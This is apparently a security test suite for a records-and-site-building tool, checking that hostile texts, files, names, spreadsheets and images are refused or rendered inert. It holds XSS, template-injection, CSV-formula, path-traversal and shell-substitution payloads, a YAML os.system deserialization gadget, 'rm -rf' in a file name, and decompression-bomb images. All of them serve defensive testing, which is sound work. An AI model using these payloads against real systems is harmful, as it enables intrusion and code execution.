"""Hostile records, names and files: each is refused with a clear error or shown harmless, in bounded time and memory."""

import html
import io
import json
import os
import re
import subprocess
import sys
import time
import xml.etree.ElementTree as ET
from dataclasses import replace
from pathlib import Path

import pytest
import smallshop
from building import built_of
from canaries import refilled
from commandline import passport
from forms import FULL
from htmlread import Page, inline_parts
from places import SUPPORT

from passport.records.ledger import ledger
from passport.records.load import load
from passport.records.transaction import ledger_file, lock
from passport.render.theme import assets

MB = 1_000_000
PAYLOADS = (
    "<script>document.title='hit'</script>",
    '"><img src=x onerror="document.title=\'hit\'">',
    "</title></head><body onload=hit()>",
    "{{ 7*191 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{# {{ config }} #}${7*191}#{7*191}%(number)s{0.__class__}",
    "javascript:document.title='hit'",
    "=HYPERLINK(\"https://elsewhere.example/?\"&A1);+1+cmd|' /C calc'!A0",
    "&lt;b&gt;&#60;i&#62;&amp;",
    "]]></style></svg><script>hit()</script><!--",
    "one\nATTENDEE:mailto:x@elsewhere.example\nEND:VEVENT",
    "url(https://elsewhere.example/x.png);}@import'//elsewhere.example'",
    "../../../../etc/passwd\\..\\..\\boot.ini%2e%2e%2f",
    "`id`;$(id)|id&id>x",
    'O\'Neil "Ace" \\ (½ set) 100% «ß» Ŵ',
)
"""Each is one way to make a text act as something else; 7 × 191 is 1337, which no page shows otherwise."""


# --- texts in every field --------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def hostile(demo_content, tmp_path_factory):
    """The demo with a hostile text in every free public field, built with cards; its fields and its site."""
    used: list[str] = []

    def choose(owner: str, field: str, private: bool) -> str | None:
        if private:
            return None
        used.append(field)
        own = f" {len(used)}" if field == "Frame.set" else ""  # frames of two sports are no set
        return PAYLOADS[len(used) % len(PAYLOADS)] + own

    text = "# " + PAYLOADS[0] + "\n\n" + "\n\n".join(PAYLOADS)
    pages = {slug: replace(page, text=text) for slug, page in demo_content.pages.items()}
    content = replace(refilled(demo_content, choose), pages=pages)
    site = tmp_path_factory.mktemp("hostile") / "site"
    built_of(content, site, cards=True)
    return used, site


def pages(site: Path) -> dict[str, Page]:
    """Every page of a site, read."""
    found = sorted(site.rglob("*.html"))
    return {p.relative_to(site).as_posix(): Page(p.read_text(encoding="utf-8")) for p in found}


def test_no_text_becomes_code_or_markup(hostile, counted):
    """No text of a record or page makes an element, an attribute, a script, a style or a template's value on any page."""
    used, site = hostile
    read = pages(site)
    for name, page in read.items():
        assert not inline_parts(page), name
        assert not page.misnested, name
        assert not page.unclosed, name
        assert "1337" not in page.html, name
        assert {a.get("src", "") for a in page.all("script")} <= {
            "../assets/age.js",
            "../../assets/age.js",  # the page in the shop's language, a folder deeper
            "assets/age.js",
            "../assets/seal.js",
            "../../assets/keep.js",
        }, name
        assert all(not a.get("src", "").startswith(("x", "http", "//")) for a in page.all("img")), name
        assert not [link for link in page.links if link.lower().lstrip().startswith(("javascript:", "data:", "//"))], (
            name
        )
    assert len(set(used)) > 25
    counted(
        f"hostile texts: {len(PAYLOADS)} in {len(used)} places of {len(set(used))} fields on {len(read)} pages, 0 acted"
    )


def test_texts_are_shown_as_they_were_written(hostile):
    """What is not meant as markup is still there to be read, every sign of it."""
    _, site = hostile
    words = " ".join(page.words for page in pages(site).values())
    for text in (PAYLOADS[0], PAYLOADS[3], PAYLOADS[7], PAYLOADS[12], PAYLOADS[13]):
        assert " ".join(text.split()) in words, text


def test_drawings_are_sound_and_passive(hostile):
    """Each drawing on a page is well-formed XML without scripts, handlers, foreign objects or outside references."""
    _, site = hostile
    count = 0
    for path in site.rglob("*.html"):
        for svg in re.findall(r"<svg\b.*?</svg>", path.read_text(encoding="utf-8"), re.DOTALL):
            for element in ET.fromstring(svg).iter():
                tag = element.tag.rpartition("}")[2]
                assert tag not in {"script", "foreignObject", "iframe", "image", "animate", "set"}
                assert not [name for name in element.attrib if name.lower().startswith("on")]
            count += 1
    assert count > 100


def test_calendars_have_no_lines_of_others(hostile):
    """A text with line ends in it adds no property to a calendar: one event with two reminders, no attendee."""
    _, site = hostile
    found = list(site.rglob("*.ics"))
    assert found
    for path in found:
        lines = path.read_bytes().decode().replace("\r\n ", "").split("\r\n")
        names = [re.split("[:;]", line)[0] for line in lines if line]
        assert set(names) <= {
            "BEGIN", "END", "VERSION", "PRODID", "CALSCALE", "UID", "DTSTAMP", "DTSTART", "DTEND", "SUMMARY", "DESCRIPTION",
            "URL", "TRANSP", "ACTION", "TRIGGER", "CLASS", "LAST-MODIFIED", "SEQUENCE", "METHOD", "X-WR-CALNAME",
        }  # fmt: skip
        assert names.count("END") == names.count("BEGIN") == 4  # calendar, event, and its two reminders


def test_data_stays_data(hostile):
    """The setup files are JSON in which each text stands whole."""
    _, site = hostile
    found = [json.loads(path.read_text(encoding="utf-8")) for path in site.rglob("setup-????-?.json")]
    assert len(found) > 5
    assert {data["label"] for data in found} <= set(PAYLOADS)


def test_cards_neither_act_nor_lead_elsewhere(hostile):
    """No card has a script, an action, a form, an attachment or a link but to its own page."""
    import pypdf

    _, site = hostile
    found = list(site.rglob("*.pdf"))
    assert len(found) > 5
    for path in found:
        reader = pypdf.PdfReader(io.BytesIO(path.read_bytes()))
        for number in range(1, reader.trailer["/Size"]):
            told = repr(reader.get_object(number))
            for word in (
                "/JavaScript",
                "/JS'",
                "/Launch",
                "/OpenAction",
                "/AA'",
                "/EmbeddedFile",
                "/AcroForm",
                "/GoToR",
            ):
                assert word not in told, (path.name, word)
            assert "elsewhere" not in told or "/URI" not in told


@pytest.mark.browser
def test_in_a_browser_nothing_acts(hostile, counted):
    """In a real browser no page runs, loads or asks for anything of what stands in its texts."""
    from browsing import chromium, served

    _, site = hostile
    with chromium() as browser, served(site) as address:
        context = browser.new_context()
        page = context.new_page()
        wrong: list[str] = []
        page.on("dialog", lambda d: (wrong.append(f"dialog {d.message}"), d.dismiss()))
        page.on("console", lambda m: wrong.append(m.text) if m.type == "error" else None)
        page.on("request", lambda r: None if r.url.startswith(address) else wrong.append(r.url))
        names = sorted(pages(site))
        for name in names:
            page.goto(f"{address}/{name}")
            assert page.title() != "hit", name
        context.close()
    assert not wrong
    counted(f"hostile texts in the browser: {len(names)} pages opened, nothing ran, nothing was asked for elsewhere")


# --- files and records -----------------------------------------------------------------------------------------

MAIN = "players/ada/main.yaml"
LONG = "9" * 5000
RECORDS: dict[str, tuple[str, bytes, str]] = {
    "alias-bomb": (MAIN, b"a: &a [x,x]\nb: &b [*a,*a]\nc: &c [*b,*b]\nlabel: *c\n", "yaml-feature"),
    "merge": (MAIN, b"x: &x {label: a}\n<<: *x\n", "yaml-feature"),
    "object": (MAIN, b"label: !!python/object/apply:os.system ['touch hit']\n", "yaml-feature"),
    "deep": (MAIN, b"label: " + b"[" * 100_000, "yaml-"),
    "deep-blocks": (MAIN, b"\n".join(b" " * i + b"- " for i in range(900)), "yaml-feature"),
    "utf16": (MAIN, "label: a".encode("utf-16"), "not-utf8"),
    "utf32": (MAIN, "label: a".encode("utf-32-be"), "control-character"),
    "latin1": (MAIN, b"label: caf\xe9\n", "not-utf8"),
    "surrogate": (MAIN, b"label: \xed\xa0\x80\n", "not-utf8"),
    "overlong": (MAIN, b"label: \xc0\xaf\n", "not-utf8"),
    "nul": (MAIN, b"label: a\x00b\n", "control-character"),
    "escape": (MAIN, b"label: \x1b[31m\n", "control-character"),
    "written-escape": (MAIN, b'model: larch-98\nlabel: "\\e[31mred"\n', "control-character"),
    "turned": (MAIN, "model: larch-98\nlabel: a\u202egnp.exe\n".encode(), "control-character"),
    "written-turned": (MAIN, b'model: larch-98\nlabel: "a\\u202eb"\n', "control-character"),
    "turned-key": (MAIN, "\u202elabel: a\n".encode(), "unknown-key"),
    "escape-key": (MAIN, b'"\\e[2J": a\n', "unknown-key"),
    "key-path": (MAIN, b"model: larch-98\nlabel: a\nkey: ../../../../../../x\n", "bad-key"),
    "number-path": (MAIN, b"model: larch-98\nlabel: a\nnumber: ../1042-9\n", "bad-number"),
    "number-script": (MAIN, b"model: larch-98\nlabel: a\nnumber: <b>1042-9\n", "bad-number"),
    "photo-path": (MAIN, b"model: larch-98\nlabel: a\nphoto: ../workshop.yaml\nphoto_alt: x\n", "missing-photo"),
    "photo-root": (MAIN, b"model: larch-98\nlabel: a\nphoto: /etc/passwd\nphoto_alt: x\n", "missing-photo"),
    "photo-backslash": (MAIN, b"model: larch-98\nlabel: a\nphoto: '..\\..\\x.jpg'\nphoto_alt: x\n", "missing-photo"),
    "photo-self": (MAIN, b"model: larch-98\nlabel: a\nphoto: ..\nphoto_alt: x\n", "missing-photo"),
    "model-path": (MAIN, b"model: ../../x\nlabel: a\n", "unknown-model"),
    "huge-figure": (MAIN, f"model: larch-98\nlabel: a\nsetup: {{mass: {LONG} g}}\n".encode(), "bad-value"),
    "huge-power": (MAIN, b"model: larch-98\nlabel: a\nsetup: {mass: 1e999999 g}\n", ""),
    "huge-count": (MAIN, f"model: larch-98\nlabel: a\njobs: [{{date: 2026-01-01, strings: {{mains: {{string: reed-125, tension: 24 kg}}, knots: {LONG}}}}}]\n".encode(), "bad-value"),
    "not-a-number": (MAIN, b"model: larch-98\nlabel: a\nsetup: {mass: nan g}\n", ""),
    "endless": (MAIN, b"model: larch-98\nlabel: a\nsetup: {mass: inf g}\n", ""),
    "odd-day": (MAIN, b"model: larch-98\nlabel: a\nsince: 9999-99-99\n", "bad-date"),
    "many-keys": (MAIN, b"".join(b"k%d: 1\n" % i for i in range(100_000)), "unknown-key"),
    "long-line": (MAIN, b"model: larch-98\nlable: " + b"a" * 1_500_000, "unknown-key"),
    "script-address": ("workshop.yaml", b"name: x\naddress: javascript:alert(1)\n", "bad-address"),
    "file-address": ("workshop.yaml", b"name: x\naddress: file:///etc/passwd\n", "bad-address"),
    "data-address": ("workshop.yaml", b"name: x\naddress: data:text/html,x\n", "bad-address"),
    "bare-address": ("workshop.yaml", b"name: x\naddress: //elsewhere.example\n", "bad-address"),
    "quoted-address": ("workshop.yaml", b"name: x\naddress: 'https://a.example/\"><script>'\n", "bad-address"),
    "user-address": ("workshop.yaml", b"name: x\naddress: https://shop.example@elsewhere.example\n", "bad-address"),
    "letters-address": ("workshop.yaml", "name: x\naddress: https://shоp.example\n".encode(), "bad-address"),
    "look-path": ("workshop.yaml", b"name: x\naddress: https://a.example\nlook: {logo: ../../../../etc/passwd}\n", ""),
    "page-latin1": ("pages/care.md", b"# caf\xe9\n", "not-utf8"),
    "page-turned": ("pages/care.md", "# a\u202eb\n".encode(), "control-character"),
    "page-escape": ("pages/care.md", b"# a\x1b]0;hit\x07\n", "control-character"),
    "page-brackets": ("pages/care.md", b"[" * 20_000, "too-large"),
    "bad-words": ("messages/en.po", b"\xff\xfe garbage", ""),
}  # fmt: skip


@pytest.mark.parametrize("case", RECORDS)
def test_hostile_files_are_refused(tmp_path, monkeypatch, case, counted):
    """Each is an error with its rule or a plain message, within seconds; nothing in the message acts on a terminal."""
    name, data, rule = RECORDS[case]
    monkeypatch.chdir(tmp_path)
    content = smallshop.write(tmp_path / "content")
    (content / name).parent.mkdir(exist_ok=True)
    (content / name).write_bytes(data)
    begun = time.process_time()
    results = [passport("check", content)] if rule else []
    results.append(passport("build", content, "--out", tmp_path / "site", "--no-cards"))
    assert time.process_time() - begun < 20
    for result in results:
        assert result.exit_code == 1, result.output
        assert rule in result.stderr
        assert len(result.stderr) < 2 * MB
        assert not re.search(
            "[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", re.sub("\x1b\\[[0-9;]*m", "", result.output)
        )
        assert "hit" not in [path.name for path in tmp_path.rglob("*")]
    assert not (tmp_path / "site").exists()
    counted(f"hostile records, pages and addresses: {len(RECORDS)} tried, all refused with a clear error")


LINKS = {
    "workshop.yaml": "outside-link",
    "catalogue/strings.yaml": "outside-link",
    "catalogue": "outside-link",
    "players/ada": "outside-link",
    "players/ada/main.yaml": "outside-link",
    "players/ada/player.yaml": "outside-link",
    "blanks/larch-a.yaml": "outside-link",
    "pages/care.md": "outside-link",
    "templates/pages/base.html.j2": "outside-link",
    "templates": "outside-link",
    "style/tokens.css": "outside-link",
    "messages/en.po": "outside-link",
    "fonts/own.woff2": "outside-link",
    "ledger.txt": "link",
    ".passport-lock": "link",
}


@pytest.mark.parametrize("name", LINKS)
def test_links_that_lead_outside(tmp_path, name, counted):
    """A link out of the content folder is neither read nor written through, whatever it stands for."""
    content = smallshop.write(tmp_path / "content")
    outside = tmp_path / "outside"
    place = content / name
    if place.is_dir():
        place.rename(outside)
    else:
        outside.write_bytes(place.read_bytes() if place.exists() else b"SECRET-OUTSIDE\n")
        place.unlink(missing_ok=True)
    place.parent.mkdir(parents=True, exist_ok=True)
    place.symlink_to(outside)
    before = outside.read_bytes() if outside.is_file() else b""
    result = passport("build", content, "--out", tmp_path / "site", "--no-cards")
    assert LINKS[name] in result.stderr.lower() or "symbolic link" in result.stderr.lower()
    if name.startswith("."):
        changed = passport("retire", content, smallshop.NUMBERS["only"], "--yes")
        assert changed.exit_code == 1
    else:
        assert result.exit_code == 1
        assert not (tmp_path / "site").exists()
    assert not outside.is_file() or outside.read_bytes() == before
    published = b"".join(p.read_bytes() for p in (tmp_path / "site").rglob("*") if p.is_file())
    assert b"SECRET-OUTSIDE" not in published
    counted(f"links out of the content folder: {len(LINKS)} tried, none read or written through")


def test_a_lock_or_ledger_that_is_a_link_is_not_written_through(tmp_path):
    """What a link leads to keeps its content when the lock is taken and a line is added."""
    folder, outside = tmp_path / "content", tmp_path / "mine"
    folder.mkdir()
    outside.write_text("mine")
    (folder / lock.NAME).symlink_to(outside)
    with pytest.raises(OSError, match="symbolic links"), lock.locked(folder, "x", wait=0):
        pass
    (folder / ledger.FILE).symlink_to(outside)
    line = ledger.LedgerLine(ledger.ISSUED, "A" * 26, "frame")
    with pytest.raises(OSError, match="link"):
        ledger_file.append(folder, [line], smallshop.TODAY)
    with pytest.raises(OSError, match="link"):
        ledger.read(folder)
    assert outside.read_text() == "mine"


def test_a_memory_that_is_a_link_is_not_written_through(tmp_path):
    """Where the folder for what builds and searches remember is a link, nothing is kept there, and all else works."""
    content, outside = smallshop.write(tmp_path / "content"), tmp_path / "outside"
    outside.mkdir()
    (content / ".passport-cache").symlink_to(outside)
    assert passport("build", content, "--out", tmp_path / "site", "--no-cards").exit_code == 0
    assert smallshop.NUMBERS["main"] in passport("find", content, "ada").stdout
    assert list(outside.iterdir()) == []


@pytest.mark.parametrize("kind", ["pipe", "folder", "circle", "device"])
def test_things_that_are_no_files(tmp_path, kind):
    """A pipe, a folder, a circle of links and a device in a record's or photo's place are errors, never waited for."""
    alt = "model: larch-98\nlabel: a\nphoto: p.jpg\nphoto_alt: x\n"
    content = smallshop.write(tmp_path / "content", {"players/ada/new.yaml": alt})
    (content / "photos").mkdir()
    for place in (content / MAIN, content / "photos/p.jpg", content / "pages/care.md"):
        place.unlink(missing_ok=True)
        if kind == "pipe":
            os.mkfifo(place)
        elif kind == "folder":
            place.mkdir()
        else:
            place.symlink_to(place if kind == "circle" else "/dev/zero")
    result = subprocess.run(
        [sys.executable, "-m", "passport.cli.main", "check", content],
        capture_output=True, text=True, timeout=60, check=False,
    )  # fmt: skip
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    for name in (MAIN, "players/ada/new.yaml", "pages/care.md"):
        assert f"{content / name}:" in result.stderr


@pytest.mark.parametrize(
    "name", ["a\x1b[31mb", "\u202egnp", "a b;rm -rf", "<script>", "{{7*191}}", "CON", "a'b\"c", "ü" * 100, "-rf", "~"]
)
def test_odd_names_of_files_and_folders(tmp_path, name):
    """A player's folder, a record or a page of any name is read or refused; on the site no name is code or a path."""
    changes = {
        f"players/{name}/player.yaml": f"name: Odd\nkey: {'Z' * 26}\n",
        f"players/ada/{name}.yaml": smallshop.FILES["players/ada/new.yaml"],
        f"pages/{name}.md": "# Odd\n\nText.\n",
    }
    content = smallshop.write(tmp_path / "content", changes)
    result = passport("build", content, "--out", tmp_path / "site", "--no-cards")
    assert result.exit_code in (0, 1)
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", re.sub("\x1b\\[[0-9;]*m", "", result.output))
    if result.exit_code == 0:
        for page in pages(tmp_path / "site").values():
            assert not inline_parts(page)
            assert "1337" not in page.html
            assert html.escape(name) in page.html or name not in page.html


# --- time and memory -------------------------------------------------------------------------------------------

PEAK = """
import re
from copy import copy
from dataclasses import replace
from pathlib import Path
def peak():
    print("PEAK", re.search(r"VmHWM:\\s+(\\d+)", Path("/proc/self/status").read_text())[1], file=sys.stderr)
"""
"""Prints the most memory that this very program held, kB: what is asked of the system otherwise counts its parent's."""
MEASURE = f"""
import sys
{PEAK}
from passport.cli.main import main
try:
    main(sys.argv[1:], prog_name="passport")
finally:
    peak()
"""


def measured(*arguments: str | Path) -> tuple[int, str, float, float]:
    """A command in a process of its own: exit code, what it said, processor seconds, peak memory in MB."""
    begun = os.times()
    result = subprocess.run(
        [sys.executable, "-c", MEASURE, *map(str, arguments)], capture_output=True, text=True, timeout=300, check=False
    )
    ended = os.times()
    seconds = ended.children_user + ended.children_system - begun.children_user - begun.children_system
    peak = re.search(r"PEAK (\d+)", result.stderr)
    assert peak, result.stderr[-2000:]
    return result.returncode, result.stdout + result.stderr, seconds, int(peak[1]) / 1024


def sparse(path: Path, size: int) -> None:
    """A file of some size that takes no room."""
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("wb") as file:
        file.truncate(size)


@pytest.mark.parametrize(
    "name", [MAIN, "workshop.yaml", "catalogue/parts.yaml", "pages/care.md", "photos/p.jpg", "style/l.svg"]
)
def test_files_of_100_mb_are_not_read(tmp_path, name, counted):
    """A file of 100 MB in any place is an error by its size; reading the records takes no more memory than usual."""
    changes = {
        "players/ada/new.yaml": "model: larch-98\nlabel: a\nphoto: p.jpg\nphoto_alt: x\n" if "photos" in name else None,
        "workshop.yaml": smallshop.FILES["workshop.yaml"] + ("look: {logo: l.svg}\n" if "style" in name else ""),
    }
    content = smallshop.write(tmp_path / "content", {k: v for k, v in changes.items() if v is not None})
    sparse(content / name, 100 * MB)
    code, said, seconds, peak = measured("build", content, "--out", tmp_path / "site", "--no-cards")
    assert code == 1, said
    assert "Traceback" not in said
    assert seconds < 20
    assert peak < 250
    counted(f"a file of 100 MB as {name}: refused in {seconds:.1f} s with {peak:.0f} MB")


def test_the_largest_record_that_is_read(tmp_path, counted):
    """The heaviest texts within the limits of a record take bounded time and memory; sound ones are read.

    In the short form they have a fifth of the size and of the seconds, and of the memory beyond what a command takes.
    """
    fifths = 5 if FULL else 1
    worst = {
        "flow": b"label: {" + b"a: {}, " * 50_000 * fifths + b"}",
        "list": b"label: [" + b"a," * 180_000 * fifths + b"]",
        "jobs": b"model: larch-98\nlabel: a\njobs:\n" + b"- {date: 2026-01-01, note: x}\n" * 12_000 * fifths,
        "quotes": b'label: "' + b"\\n" * 180_000 * fifths + b'"',
        "comments": b"# " + b"[{" * 180_000 * fifths,
        "lines": b"a:\n" * 120_000 * fifths,
    }
    for name, data in worst.items():
        content = smallshop.write(tmp_path / name, {MAIN: data.decode()})
        code, said, seconds, peak = measured("check", content)
        assert code == (0 if name == "jobs" else 1), name
        assert "Traceback" not in said
        assert seconds < 12 * fifths, name
        assert peak < 150 + 270 * fifths, name
        counted(f"a record of {0.4 * fifths:.1f} MB ({name}): answered in {seconds:.1f} s with {peak:.0f} MB")


def png(width: int, height: int) -> bytes:
    """A PNG that says it is so large; its rows are all of one colour and pack to almost nothing, of which 300 kB are enough."""
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    packer = zlib.compressobj(9)
    row = bytes(1 + width * 3)
    packed = io.BytesIO()
    for _ in range(height):
        if packed.write(packer.compress(row)) and packed.tell() > 300_000:
            break
    rows = packed.getvalue() + packer.flush()
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def not_photos() -> dict[str, bytes]:
    """Files that are no photos, or more than one."""
    from PIL import Image

    small = io.BytesIO()
    Image.new("RGB", (40, 30)).save(small, "JPEG")
    gif, tiff = io.BytesIO(), io.BytesIO()
    Image.new("RGB", (40, 30)).save(gif, "GIF")
    Image.new("RGB", (40, 30)).save(tiff, "TIFF")
    return {
        "empty": b"",
        "text": b"not a photo",
        "page": b"<!doctype html><script>hit()</script>",
        "svg": b'<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>',
        "gif": gif.getvalue(),
        "tiff": tiff.getvalue(),
        "half": small.getvalue()[: len(small.getvalue()) // 2],
        "head": small.getvalue()[:4],
        "noise": b"\xff\xd8\xff\xe0" + bytes(range(256)) * 40,
        "gigapixels": png(60_000, 60_000)[:200_000],
        "wide": png(70_000_000, 1)[:200_000],
        "unpacks": png(9_000, 9_000),
        "postscript": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(hit) print\n",
    }


PHOTOS = f"""
import sys
{PEAK}
from passport.render.pages.photos import NotAPhoto, prepared
for name in sys.argv[1:]:
    try:
        prepared(Path(name).read_bytes())
        print(Path(name).name, "prepared")
    except NotAPhoto as error:
        print(Path(name).name, "refused:", " ".join(str(error).split()))
peak()
"""


def test_photos_that_are_none(tmp_path, counted):
    """Files that are no photos, damaged ones and ones that unpack to gigapixels are refused, by check and by the maker."""
    cases = not_photos()
    for name, data in cases.items():
        (tmp_path / name).write_bytes(data)
    result = subprocess.run(
        [sys.executable, "-c", PHOTOS, *(tmp_path / name for name in cases)], capture_output=True, text=True, timeout=120,
        check=True,
    )  # fmt: skip
    assert [line.split()[:2] for line in result.stdout.splitlines()] == [[name, "refused:"] for name in cases]
    largest = int(result.stderr.split()[-1]) / 1024
    assert largest < 200
    changes = {}
    for name in cases:
        changes[f"players/ada/p-{name}.yaml"] = f"model: larch-98\nlabel: a\nphoto: {name}.jpg\nphoto_alt: x\n"
    content = smallshop.write(tmp_path / "content", changes)
    (content / "photos").mkdir()
    for name, data in cases.items():
        (content / f"photos/{name}.jpg").write_bytes(data)
    result = passport("build", content, "--out", tmp_path / "site", "--no-cards")
    assert result.exit_code == 1
    assert "Traceback" not in result.output
    assert not (tmp_path / "site").exists()
    counted(f"files that are no photos: {len(cases)} refused, with {largest:.0f} MB at most")


def test_the_largest_photo_that_is_taken(tmp_path, counted):
    """The largest pictures that are taken, of each kind, need less than 700 MB."""
    from PIL import Image

    for kind, side in (("JPEG", 7745), ("PNG", 7745), ("WEBP", 4898)):
        path = tmp_path / kind
        Image.new("RGB", (side, side), (90, 40, 20)).save(path, kind)
        result = subprocess.run(
            [sys.executable, "-c", PHOTOS, path], capture_output=True, text=True, timeout=120, check=True
        )
        assert result.stdout == f"{kind} prepared\n"
        peak = int(result.stderr.split()[-1]) / 1024
        assert peak < 700
        counted(f"a photo of {side * side / MB:.0f} megapixels ({kind}): prepared with {peak:.0f} MB")


# --- spreadsheets ----------------------------------------------------------------------------------------------

MAPPING = "date: Date\nframe: Frame\ncolumns: {note: Note, price: Price}\n"


def imported(tmp_path: Path, data: bytes) -> tuple[int, str, Path]:
    """An import of a table, written."""
    content = smallshop.write(tmp_path / "content")
    (tmp_path / "jobs.csv").write_bytes(data)
    (tmp_path / "map.yaml").write_text(MAPPING)
    result = passport("import", content, tmp_path / "jobs.csv", "--map", tmp_path / "map.yaml", "--write")
    return result.exit_code, result.output, content


@pytest.mark.parametrize("start", "=+-@\t|%")
def test_formulas_stay_text(tmp_path, start):
    """A cell that begins like a formula becomes a note of that very text, on the page too, and nothing else."""
    cell = f"{start}HYPERLINK('https://elsewhere.example?x','hit')"
    number = smallshop.NUMBERS["only"]
    code, said, content = imported(tmp_path, f'Date,Frame,Note,Price\n2026-06-01,{number},"{cell}",\n'.encode())
    assert code == 0, said
    job = load(content)[0].frames["bo/only"].record.jobs[-1]
    assert job.note == cell.strip()
    assert passport("build", content, "--out", tmp_path / "site", "--no-cards").exit_code == 0
    for page in pages(tmp_path / "site").values():
        assert not [link for link in page.links if "elsewhere" in link]


TABLES: dict[str, bytes] = {
    "empty": b"",
    "nul": b"Date,Frame,Note,Price\n2026-06-01,2008-X,\x00,\n",
    "utf16": "Date,Frame,Note,Price\n2026-06-01,2008-X,a,\n".encode("utf-16"),
    "binary": bytes(range(256)) * 50,
    "escape": b"Date,Frame,Note,Price\n2026-06-01,2008-X,\x1b[31m,\n",
    "turned": "Date,Frame,Note,Price\n2026-06-01,2008-X,a\u202eb,\n".encode(),
    "wide": b"Date,Frame,Note,Price\n" + b"a," * 200_000 + b"\n",
    "field": b"Date,Frame,Note,Price\n2026-06-01,2008-X," + b"a" * 1_000_000 + b",\n",
    "quote": b'Date,Frame,Note,Price\n2026-06-01,2008-X,"' + b"a\n" * 200_000,
    "path": b"Date,Frame,Note,Price\n2026-06-01,../../x,a,\n",
    "yaml": b"Date,Frame,Note,Price\n2026-06-01,2008-X,\"x\nkey: AAAA\n- !!python/none\",\n",
}  # fmt: skip


@pytest.mark.parametrize("case", TABLES)
def test_hostile_tables(tmp_path, case, counted):
    """A table that is none, or whose cells would break a record, is refused or becomes plain text; records stay sound."""
    begun = time.process_time()
    code, said, content = imported(tmp_path, TABLES[case])
    assert time.process_time() - begun < 30
    assert code in (0, 1, 2), said[-500:]
    assert "\x1b]" not in said
    assert not re.search("[\x00-\x08\u202a-\u202e]", said)
    assert len(said) < 100_000
    found, faults = load(content)
    assert not [fault for fault in faults if fault.severity == "error"]
    assert found.frames["bo/only"].record.key == smallshop.KEYS["only"]
    counted(f"hostile tables: {len(TABLES)} tried, the records stayed sound")


def test_a_table_of_100_mb(tmp_path, counted):
    """A table of 100 MB is refused by its size."""
    content = smallshop.write(tmp_path / "content")
    sparse(tmp_path / "jobs.csv", 100 * MB)
    (tmp_path / "map.yaml").write_text(MAPPING)
    code, said, seconds, peak = measured("import", content, tmp_path / "jobs.csv", "--map", tmp_path / "map.yaml")
    assert code in (1, 2)
    assert "Traceback" not in said
    assert peak < 300
    counted(f"a table of 100 MB: refused in {seconds:.1f} s with {peak:.0f} MB")


# --- what makes the cards --------------------------------------------------------------------------------------

WATCHED = """
import json, sys, sysconfig
from copy import copy
from dataclasses import replace
from pathlib import Path
seen = {"read": set(), "net": []}
def hook(event, args):
    if event == "open" and isinstance(args[0], str):
        seen["read"].add(args[0])
    elif event.startswith(("socket.", "urllib.", "http.client", "ftplib", "subprocess", "os.system", "os.exec", "os.posix_spawn")):
        seen["net"].append(f"{event} {args}")
sys.path.insert(0, sys.argv[1])
import smallshop
site = smallshop.facts(Path(sys.argv[2]))
from passport.render.print.card import card_pdf
from passport.render.print import pdf
frame = smallshop.of(site, "ada/main")
card_pdf(frame, site.shop)
sys.addaudithook(hook)
pdf._release()
size = len(card_pdf(frame, site.shop))
print(json.dumps({"read": sorted(seen["read"]), "net": seen["net"], "size": size}))
"""


def test_making_a_card_reads_the_templates_and_asks_nobody(tmp_path):
    """While a card is made no connection is opened and no program started; of files only templates and libraries' own."""
    result = subprocess.run(
        [sys.executable, "-c", WATCHED, SUPPORT, tmp_path / "content"],
        capture_output=True, text=True, timeout=120, check=False,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    told = json.loads(result.stdout)
    assert told["size"] > 1000
    assert told["net"] == []
    own = (str(assets.templates().resolve()), *(str(Path(p).resolve()) for p in {sys.prefix, sys.base_prefix}))
    elsewhere = [path for path in told["read"] if not str(Path(path).resolve()).startswith(own)]
    harmless = ("/tmp/", "/dev/", "/proc/", "/etc/fonts", "/var/cache/fontconfig", "/usr/share/")
    assert [path for path in elsewhere if not path.startswith(harmless)] == []


@pytest.mark.parametrize(
    "address",
    ["file:///etc/passwd", "https://elsewhere.example/x.png", "http://127.0.0.1:9/", "ftp://elsewhere.example/x", "//elsewhere.example/x", "data:text/html,x", "gopher://x/", "../../../../etc/passwd", "picture:none"],
)  # fmt: skip
@pytest.mark.parametrize("way", ["img", "style", "link", "object"])
def test_documents_reach_nothing_outside_the_templates(address, way):
    """A document that asks for a file or address outside the templates is refused; it is never made without a word."""
    from passport.render.print import pdf

    missing = pdf.available()
    if missing:
        pytest.skip(missing.splitlines()[0])
    body = {
        "img": f'<img alt="x" src="{address}">',
        "style": f'<p style="background:url({address})">x</p>',
        "link": f'<link rel="stylesheet" href="{address}"><p>x</p>',
        "object": f'<object data="{address}">x</object><p>x</p>',
    }[way]
    try:
        data = pdf.engine().write(body, [], title="x", lang="en")
    except pdf.FaultyDocument:
        return
    assert b"root:" not in data
    assert address.startswith("data:") or way == "object", "made without what it asked for"
